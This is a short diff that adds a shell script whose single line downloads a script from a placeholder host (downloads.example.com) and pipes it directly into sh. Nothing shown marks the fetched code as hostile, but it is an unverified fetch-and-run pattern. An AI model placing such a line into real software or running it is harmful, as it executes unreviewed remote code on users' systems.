@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsS https://downloads.example.com/helper.sh | sh
